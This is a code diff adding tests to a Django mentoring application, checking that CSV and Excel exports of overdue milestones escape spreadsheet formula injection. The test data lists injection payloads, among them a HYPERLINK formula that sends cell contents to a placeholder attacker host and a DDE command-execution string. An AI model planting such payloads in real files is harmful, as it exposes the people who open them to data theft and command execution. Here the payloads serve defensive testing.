@@ -159,3 +159,52 @@ def test_milestone_done_removes_it_from_the_overview(client, three_overdue, offi
     client.post(reverse("mentoring:plan-milestone-done", args=[three_overdue[0].pk, m.pk]),
                 {"done_on": TODAY.isoformat()})
     assert [r.pairing.mentee.name for r in overdue_milestones(today=TODAY)] == ["SME 2", "SME 3"]
+
+
+# Text that companies write (milestone titles, company names) must not run as a
+# formula in the officer's spreadsheet (#10): the export goes through common/exports.py.
+FORMULA_PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def poisoned(bb_round, organisation_factory):
+    plans = []
+    for n, payload in enumerate(FORMULA_PAYLOADS, start=1):
+        plan = overdue_plan(bb_round, organisation_factory, n, days=n)
+        kick_off = plan.milestones.get(kind="kick_off")
+        kick_off.title = payload
+        kick_off.save()
+        mentee = plan.pairing.mentee
+        mentee.name = mentee.name_en = mentee.name_th = payload
+        mentee.save()
+        plans.append(plan)
+    return plans
+
+
+def test_overdue_csv_quotes_formula_payloads_in_titles_and_names(client, poisoned, officer):
+    client.force_login(officer)
+    response = client.get(reverse("mentoring:overdue"), {"format": "csv", "sort": "days"})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    assert [(r[0], r[2]) for r in rows[1:]] == [("'" + p, "'" + p) for p in FORMULA_PAYLOADS]
+    assert [r[6] for r in rows[1:]] == ["1", "2", "3", "4", "5", "6"]
+
+
+def test_overdue_xlsx_writes_formula_payloads_as_text(client, poisoned, officer):
+    client.force_login(officer)
+    response = client.get(reverse("mentoring:overdue"), {"format": "xlsx", "sort": "days"})
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    rows = list(sheet.iter_rows(min_row=2))
+    assert [c.data_type for row in rows for c in row if c.data_type == "f"] == []
+    # XML reads a carriage return back as a line feed
+    expected = [p.replace("\r", "\n") for p in FORMULA_PAYLOADS]
+    assert [(row[0].value, row[0].data_type) for row in rows] == [(p, "s") for p in expected]
+    assert [(row[2].value, row[2].data_type) for row in rows] == [(p, "s") for p in expected]
+    assert [row[6].value for row in rows] == [1, 2, 3, 4, 5, 6]
